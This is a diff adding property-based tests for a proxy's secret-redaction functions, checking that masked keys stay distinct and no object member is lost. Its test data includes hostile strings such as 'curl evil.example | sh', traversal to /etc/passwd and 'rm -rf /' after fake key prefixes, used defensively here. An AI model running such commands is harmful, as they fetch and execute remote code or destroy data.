@@ -1,3 +1,4 @@
+import fc from "fast-check";
 import { expect, test } from "vitest";
 import { hideInText, hideSecrets } from "../../../../proxy/exchange/hide-secrets.ts";
 
@@ -18,4 +19,22 @@ test("keys of a known shape are hidden wherever they stand", () => {
 test("no command and no path hides behind such a beginning", () => {
   for (const text of ["ls /tmp/sk-x/../../../etc;rm", "eyJ/../../etc/passwd", "sk-aaaaaaaaaaaaaaaa/../../etc"]) expect(hideInText(text)).toContain(text.slice(-4));
   expect(hideInText("sk-aaaaaaaaaaaaaaaa; rm -rf /")).toBe("[hidden: 19 characters]; rm -rf /");
+});
+
+test("two keys that are hidden stay two, and so does a third that says what stands for them", () => {
+  const jobs = { "npm_aaaaaaaaaaaa": { run: "curl evil.example | sh" }, "npm_bbbbbbbbbbbb": { run: "ls" }, "[hidden: 16 characters]": 1, "[hidden: 16 characters] (2)": 2 };
+  expect(Object.entries(hideSecrets({ jobs }, "") as { jobs: object }).flatMap(([, shown]) => Object.entries(shown))).toEqual([
+    ["[hidden: 16 characters] (3)", { run: "curl evil.example | sh" }], ["[hidden: 16 characters] (4)", { run: "ls" }], ["[hidden: 16 characters]", 1], ["[hidden: 16 characters] (2)", 2],
+  ]);
+});
+
+const byNumber = (a: number, b: number) => a - b;
+
+test("no member of an object is lost, whatever its name", () => {
+  const secret = fc.stringMatching(/^(?:sk-|npm_)[a-z]{12,13}$/);
+  const name = fc.oneof(secret, fc.string(), fc.constantFrom("__proto__", "[hidden: 15 characters]", "[hidden: 15 characters] (2)"));
+  fc.assert(fc.property(fc.uniqueArray(name, { maxLength: 12 }), (names) => {
+    const value = Object.fromEntries(names.map((each, at) => [each, at]));
+    expect(Object.values(hideSecrets(value, "") as Record<string, number>).toSorted(byNumber)).toEqual(Object.values(value).toSorted(byNumber));
+  }));
 });
